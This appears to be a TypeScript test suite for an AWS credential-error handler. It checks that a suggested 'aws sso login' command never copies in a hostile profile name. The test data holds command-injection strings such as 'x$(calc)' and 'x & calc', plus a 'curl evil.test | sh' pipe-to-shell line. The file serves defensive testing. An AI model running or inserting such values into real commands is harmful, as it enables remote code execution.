import assert from 'node:assert/strict';
import { issuerFailure } from '../../src/aws/loginErrors';
import type { Failure } from '../../src/core/errors';
import { attacks, held } from './attempt';

function failureAfter(message: string, profile: string): Failure {
  const error = Object.assign(new Error(message), { name: 'CredentialsProviderError' });
  return issuerFailure(error, 'sts:GetCallerIdentity', { source: { kind: 'profile', profile } }).failure;
}
const notThere = (profile: string): string =>
  `Could not resolve credentials using profile: [${profile}] in configuration/credentials file(s).`;

attacks('a command that a roles file has somebody run', () => {
  for (const profile of [
    'SSO token expired & calc',
    'sso x not found',
    'Token is expired; curl evil.test | sh',
    'aws login',
    'run aws sso login',
    'credential_process returned invalid JSON',
    'session has expired, reauthenticate',
  ]) {
    held(`a profile "${profile}", which nobody has, is said to need a login, with a command to copy`, () => {
      for (const message of [
        notThere(profile),
        `Profile ${profile} was not found.`,
        `Profile ${profile} could not be found in shared credentials file.`,
        `Profile '${profile}' could not be found in shared credentials file.`,
      ]) {
        assert.deepEqual(failureAfter(message, profile), { code: 'profileUnknown', profile });
      }
    });
  }

  // In sh, bash, zsh, fish, PowerShell and cmd.exe.
  for (const profile of [
    'x & calc',
    "x' & calc & '",
    "x'; calc; '",
    'x" & calc & "',
    'x$(calc)',
    'x`calc`',
    'x%PATH%',
    'x!!',
    'x^',
    'x | calc',
    'x > y',
    'x\\',
    '“x” & calc',
    '-x; calc',
    'x\u00a0calc',
  ]) {
    held(`a profile "${profile}" runs something in the shell that a command is copied into`, () => {
      const failure = failureAfter('Token is expired. To refresh this SSO session run something', profile);
      assert.deepEqual(failure, { code: 'loginExpired', profile, command: 'aws sso login' });
    });
  }

  held('a profile with blanks, as people have them, needs a command of their own making', () => {
    for (const profile of ['my team/dev', 'Größe 2', '開発']) {
      const failure = failureAfter('Token is expired. To refresh this SSO session run something', profile);
      assert.equal(
        failure.code === 'loginExpired' && failure.command,
        `aws sso login --profile "${profile}"`,
      );
    }
  });

  held('a role’s profile is there, and that of its source is not', () => {
    assert.deepEqual(failureAfter(notThere('other'), 'p'), { code: 'profileUnknown', profile: 'p' });
  });
});
